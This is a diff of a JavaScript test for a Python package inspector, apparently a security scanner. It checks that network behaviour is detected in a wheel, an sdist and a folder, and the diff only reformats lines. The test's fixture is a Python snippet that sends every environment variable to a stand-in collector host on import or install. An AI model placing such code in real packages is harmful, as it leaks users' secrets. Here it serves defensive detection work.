@@ -96,7 +96,8 @@ test('a thread that holds much WebAssembly memory ends, and gives it back', asyn
 
 test('code in a wheel, an sdist and a folder is analysed where it runs', async () => {
   const inspector = createInspector({ deadlineMs: 60_000, maxMemoryBytes: 2 ** 30, threads: 1 });
-  const code = "import os, urllib.request\nurllib.request.urlopen('https://collector.example.invalid/', str(os.environ).encode())\n";
+  const code =
+    "import os, urllib.request\nurllib.request.urlopen('https://collector.example.invalid/', str(os.environ).encode())\n";
   await writeFile(join(folder, 'wheel'), aWheel({ files: { 'demo/__init__.py': code } }));
   await writeFile(join(folder, 'sdist'), aSdist({ setup: code }));
   await mkdir(join(folder, 'tree/demo'), { recursive: true });
@@ -108,7 +109,9 @@ test('code in a wheel, an sdist and a folder is analysed where it runs', async (
     inspector.inspectFolder(join(folder, 'tree')),
   ]);
   await inspector.close();
-  const network = found.map(({ behaviour }) => behaviour?.capabilities.find(({ capability }) => capability === 'network'));
+  const network = found.map(({ behaviour }) =>
+    behaviour?.capabilities.find(({ capability }) => capability === 'network'),
+  );
   assert.deepEqual(network, [
     { capability: 'network', context: 'import', file: 'demo/__init__.py', line: 2 },
     { capability: 'network', context: 'install', file: 'demo-1.0.0/setup.py', line: 2 },
